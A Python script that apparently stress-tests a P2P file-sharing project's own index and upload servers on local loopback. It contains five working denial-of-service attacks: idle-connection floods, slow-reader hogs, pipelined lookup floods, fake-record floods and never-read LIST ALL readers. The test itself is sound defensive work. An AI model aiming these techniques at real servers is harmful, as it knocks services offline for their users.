#!/usr/bin/env python3
"""One attack on p2pshare's servers, from its own addresses, until killed or ``--seconds``.

    python attack.py KIND --index PORT --upload PORT [--seconds 60]

Every attack comes from 127.0.0.2 and up (any 127.x address is this machine on Linux
loopback), so the victim on 127.0.0.1 is another address, as on a real network. Each
loop is bounded in count and in time. Prints ``ready`` once the attack is in place.

KIND:
  idle       4 addresses x 4,000 silent connections to the index server, and 4 x 64 to
             the upload server
  hog        4 addresses x 64 connections to the upload server, each sending a GET of a
             big file and never reading the answer
  pipeline   2 addresses pipelining LOOKUPs at the index server as fast as it answers
  records    ADDs of fresh records for made-up hosts, 4 addresses, until refused
  stall      50,000 records ADDed, then 4 addresses x 25 LIST ALL readers that never read
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import socket
import sys
import time

SOURCES = [f"127.0.0.{n}" for n in range(2, 6)]


async def connect(port: int, source: str) -> socket.socket:
    sock = socket.socket()
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a reader that takes little
    sock.bind((source, 0))
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    return sock


async def many(port: int, count: int, sources: list[str]) -> list[socket.socket]:
    socks: list[socket.socket] = []
    for source in sources:
        for start in range(0, count, 200):
            batch = await asyncio.gather(*(connect(port, source)
                                           for _ in range(min(200, count - start))),
                                         return_exceptions=True)
            socks += [s for s in batch if isinstance(s, socket.socket)]
    return socks


def lookup(rfc: int) -> bytes:
    return f"LOOKUP RFC {rfc} P2P-CI/1.0\r\nHost: a\r\nPort: 1\r\n\r\n".encode()


async def idle(args: argparse.Namespace) -> list[socket.socket]:
    return [*await many(args.index, 4000, SOURCES), *await many(args.upload, 64, SOURCES)]


async def hog(args: argparse.Namespace) -> list[socket.socket]:
    socks = await many(args.upload, 64, SOURCES)
    loop = asyncio.get_running_loop()
    for sock in socks:
        with contextlib.suppress(OSError):
            await loop.sock_sendall(sock, b"GET RFC 2 P2P-CI/1.0\r\nHost: a\r\nOS: x\r\n\r\n")
    return socks


async def pipeline(args: argparse.Namespace, end: float) -> None:
    async def one(source: str) -> None:
        sock = await connect(args.index, source)
        loop = asyncio.get_running_loop()
        burst = lookup(1) * 3000
        while time.monotonic() < end:
            await loop.sock_sendall(sock, burst)
            got = 0
            while got < 3000 * 28:  # each answer is at least 28 bytes (a 404)
                data = await loop.sock_recv(sock, 1 << 20)
                if not data:
                    return
                got += len(data)

    await asyncio.gather(*(one(s) for s in SOURCES[:2]), return_exceptions=True)


async def add_records(port: int, source: str, count: int, hosts: int) -> tuple[int, int]:
    """ADD ``count`` records over one connection, for ``hosts`` made-up host:ports; returns
    (accepted, refused)."""
    sock = await connect(port, source)
    loop = asyncio.get_running_loop()
    ok = refused = 0
    for start in range(0, count, 500):
        batch = b"".join(
            f"ADD RFC {1 + n % 999_999} P2P-CI/1.0\r\nHost: h{n % hosts}.{source}\r\n"
            f"Port: {1 + n % hosts}\r\nTitle: flood {n}\r\n\r\n".encode()
            for n in range(start, min(count, start + 500)))
        await loop.sock_sendall(sock, batch)
        text = b""
        while text.count(b"P2P-CI/1.0 ") < min(500, count - start):
            data = await loop.sock_recv(sock, 1 << 20)
            if not data:
                return ok, refused + count - start
            text += data
        ok += text.count(b" 200 OK")
        refused += text.count(b" 400 ")
    sock.close()  # closing drops the records: the attack keeps one holder open below
    return ok, refused


async def records(args: argparse.Namespace) -> list[socket.socket]:
    results = await asyncio.gather(*(add_records(args.index, s, 50_000, 1000)
                                     for s in SOURCES))
    print(f"records: {sum(r[0] for r in results)} accepted, {sum(r[1] for r in results)} "
          "refused", flush=True)
    return []


async def stall(args: argparse.Namespace) -> list[socket.socket]:
    holder = await connect(args.index, SOURCES[0])
    loop = asyncio.get_running_loop()
    for start in range(0, 50_000, 1000):
        await loop.sock_sendall(holder, b"".join(
            f"ADD RFC {n + 1} P2P-CI/1.0\r\nHost: big\r\nPort: 1\r\nTitle: {'t' * 60}\r\n\r\n"
            .encode() for n in range(start, start + 1000)))
        text = b""
        while text.count(b"P2P-CI/1.0 ") < 1000:
            text += await loop.sock_recv(holder, 1 << 20)
    readers = await many(args.index, 25, SOURCES)
    for sock in readers:
        await loop.sock_sendall(sock, b"LIST ALL P2P-CI/1.0\r\nHost: a\r\nPort: 1\r\n\r\n")
    return [holder, *readers]


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("kind", choices=["idle", "hog", "pipeline", "records", "stall"])
    parser.add_argument("--index", type=int, required=True)
    parser.add_argument("--upload", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    end = time.monotonic() + args.seconds
    held: list[socket.socket] = []
    if args.kind == "pipeline":
        print("ready", flush=True)
        await pipeline(args, end)
        return 0
    held = await {"idle": idle, "hog": hog, "records": records, "stall": stall}[args.kind](args)
    print(f"ready ({len(held)} connections held)", flush=True)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(max(0.0, end - time.monotonic())):
            await asyncio.Event().wait()  # hold them until killed or the time is up
    for sock in held:
        sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
